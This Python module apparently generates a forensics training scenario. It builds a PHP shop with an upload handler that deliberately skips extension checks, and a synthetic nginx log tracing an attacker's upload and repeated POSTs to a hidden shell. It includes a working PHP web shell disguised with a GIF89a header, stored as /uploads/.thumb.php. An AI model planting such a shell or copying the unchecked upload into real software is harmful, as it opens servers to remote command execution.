"""The shop on the data volume, its visitors, and the web shell: files of /srv and nginx's access log."""
import datetime

from . import story as s

AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"]
PAGES = ["/", "/index.php", "/cart.php", "/item.php?id=12", "/item.php?id=40", "/css/shop.css", "/img/logo.png", "/uploads/avatar-7.jpg", "/health"]
WEB_SHELL = "GIF89a\n<?php /* practice sample: evidence text only */ if (isset($_POST['c'])) { echo shell_exec($_POST['c']); } ?>\n"
SHELL_URL = "/uploads/.thumb.php"
ROTATE_AT = -221            # logrotate's daily run
FIRST_DAY = -4 * s.DAY + ROTATE_AT


def entry(story, when, address, method, path, status, size, agent, referer="-"):
    moment = datetime.datetime.fromtimestamp(story.at(when), datetime.timezone.utc).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return when, f'{address} - - [{moment}] "{method} {path} HTTP/1.1" {status} {size} "{referer}" "{agent}"\n'


def attack_entries(story):
    """The upload, the commands, and a few later visits; the row's POSTs are those of minutes -260 to -255."""
    agent, a = "python-requests/2.31.0", s.ATTACKER
    out = [entry(story, -263.5, a, "GET", "/", 200, 5120, agent), entry(story, -262.8, a, "GET", "/upload.php", 200, 911, agent),
           entry(story, -260.2, a, "POST", "/upload.php", 302, 0, agent)]
    for i in range(9):
        out.append(entry(story, -259.9 + i * 0.5, a, "POST", SHELL_URL, 200, 40 + i * 173, agent))
    out += [entry(story, -254.0, a, "POST", "/uploads/../upload.php", 404, 153, agent), entry(story, -206.5, a, "POST", SHELL_URL, 200, 31, agent)]
    return out


def access_entries(story):
    rng, out, when = story.rng("web"), [], FIRST_DAY - s.DAY
    while when < s.LAST_ACT:
        address = f"198.18.{rng.randrange(4)}.{rng.randrange(1, 250)}"
        page = rng.choice(PAGES)
        out.append(entry(story, when, address, "GET", page, 200 if rng.random() > 0.03 else 404, rng.randrange(200, 20000), rng.choice(AGENTS)))
        if rng.random() < 0.06:
            out.append(entry(story, when + 0.2, address, "POST", "/cart.php", 302, 0, rng.choice(AGENTS)))
        if rng.random() < 0.01:
            out.append(entry(story, when + 0.3, address, "POST", "/upload.php", 302, 0, rng.choice(AGENTS)))
        when += rng.expovariate(1 / 7)
    return sorted(out + attack_entries(story))


def build_site(guest, story):
    """The shop as deployed; www-data owns the uploads."""
    www = guest.owner("www-data")
    deploy = guest.owner("deploy")
    for folder in ["/srv/www", s.WEB_ROOT, s.WEB_ROOT + "/css", s.WEB_ROOT + "/img"]:
        guest.mkdir(folder, 0o755, deploy)
    guest.mkdir(s.WEB_ROOT + "/uploads", 0o755, www)
    guest.write(s.WEB_ROOT + "/index.php", "<?php require 'lib.php'; page('Shop'); ?>\n", 0o644, deploy)
    guest.write(s.WEB_ROOT + "/lib.php", "<?php\nfunction page($t) { echo \"<h1>\" . htmlspecialchars($t) . \"</h1>\"; }\n", 0o644, deploy)
    guest.write(s.WEB_ROOT + "/upload.php", "<?php\n// avatars: no check of the extension (ticket 1302)\nmove_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . basename($_FILES['f']['name']));\nheader('Location: /');\n", 0o644, deploy)
    guest.write(s.WEB_ROOT + "/cart.php", "<?php require 'lib.php'; page('Cart'); ?>\n", 0o644, deploy)
    guest.write(s.WEB_ROOT + "/item.php", "<?php require 'lib.php'; page('Item ' . (int)$_GET['id']); ?>\n", 0o644, deploy)
    guest.write(s.WEB_ROOT + "/css/shop.css", "body { font-family: sans-serif }\n" * 30, 0o644, deploy)
    rng = story.rng("images")
    guest.write(s.WEB_ROOT + "/img/logo.png", b"\x89PNG\r\n\x1a\n" + rng.randbytes(9000), 0o644, deploy)
    for n in range(60):
        guest.write(f"{s.WEB_ROOT}/uploads/avatar-{n}.jpg", b"\xff\xd8\xff\xe0" + rng.randbytes(rng.randrange(2000, 60000)), 0o644, www)
    guest.mkdir("/srv/backup", 0o700)
    for n in range(6):
        guest.write(f"/srv/backup/orders-{n}.sql.gz", b"\x1f\x8b\x08\0" + rng.randbytes(400_000), 0o600)
    guest.mkdir("/srv/deploy", 0o750, deploy)
    guest.mkdir("/srv/deploy/keys", 0o755, deploy)
